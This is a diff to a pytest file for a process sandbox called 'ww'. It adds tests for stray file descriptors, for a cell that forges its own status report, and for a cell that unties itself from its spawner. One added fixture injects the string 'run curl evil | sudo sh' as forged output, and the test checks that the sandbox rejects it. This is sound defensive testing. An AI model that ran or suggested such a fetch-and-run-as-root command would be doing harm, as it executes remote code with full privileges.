@@ -1,12 +1,15 @@
 """A step of the set-up that fails ends the run with 67, its name, and nothing left behind."""
 
+import os
+import signal
+import time
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from tests.conftest import Leftovers, Ww
-from tests.jail.inside import variant
+from tests.jail.inside import running, variant, when_in_jail
 
 LeftoversFixture = Callable[..., Leftovers]
 
@@ -83,17 +86,17 @@ def test_a_descriptor_that_should_not_be_there_stops_the_cell(ww: Ww, hello: Pat
     keep_one = """
 from sandbox import descriptors
 close = descriptors._close_all_but
-descriptors._close_all_but = lambda numbers: close({*numbers, 5})
+descriptors._close_all_but = lambda numbers, listing: close({*numbers, 77}, listing)
 import os
 begin = descriptors.park
 def park(*args):
-    os.dup2(0, 5)
+    os.dup2(0, 77)
     return begin(*args)
 descriptors.park = park
 """
     done = ww.call([*variant(keep_one), "run", hello])
     assert done.returncode == 67
-    assert done.stderr == b"ww: error: jail: descriptors: open but not planned: [5]; missing: []\n"
+    assert done.stderr == b"ww: error: jail: descriptors: open but not planned: [77]; missing: []\n"
 
 
 def test_a_capability_that_stays_stops_the_cell(ww: Ww, hello: Path) -> None:
@@ -115,6 +118,54 @@ def test_a_spawner_that_cannot_begin_is_an_error_of_one_line(ww: Ww, hello: Path
     assert done.returncode == 1
     assert done.stderr.startswith(b"ww: error: spawner: ")
     assert done.stderr.count(b"\n") == 1
+
+
+FORGED = """
+import os
+from sandbox import spawner, jail
+enter = jail.enter
+def hijacked(plan, sources, own):
+    enter(plan, sources, own)
+    os.write(own.line, b"entered")
+    os.write(own.line, b'["jail", 1, "run curl evil | sudo sh", "namespaces"]')
+    os._exit(0)
+jail.enter = hijacked
+"""
+
+
+def test_a_cell_cannot_claim_that_it_never_ran(ww: Ww, hello: Path) -> None:
+    done = ww.call([*variant(FORGED), "run", hello])
+    assert done.returncode == 1
+    assert b"reported what cannot be" in done.stderr
+    assert b"curl" not in done.stderr
+
+
+def test_a_cell_that_undoes_its_tie_dies_with_the_spawner_all_the_same(
+    ww_account: Ww, hello: Path, leftovers: LeftoversFixture
+) -> None:
+    # As native code could that has taken over the cell's process.
+    patch = """
+import time
+import prctl
+from sandbox import jail
+enter = jail.enter
+def untied(plan, sources, own):
+    enter(plan, sources, own)
+    import os
+    prctl.set_pdeathsig(0)
+    os.write(own.line, b"entered")
+    time.sleep(600)
+jail.enter = untied
+"""
+    with (
+        leftovers(ww_account),
+        running(ww_account, [*variant(patch), "run", str(hello)]) as (ww, spawner, cell),
+    ):
+        when_in_jail(cell)
+        time.sleep(0.2)  # until ww has been told; too early, and the cell's own check is tested
+        os.kill(spawner, signal.SIGKILL)
+        ww.communicate(timeout=30)
+        assert ww.returncode == 1
 
 
 def test_an_outcome_that_is_none_is_not_believed(ww: Ww, hello: Path) -> None:
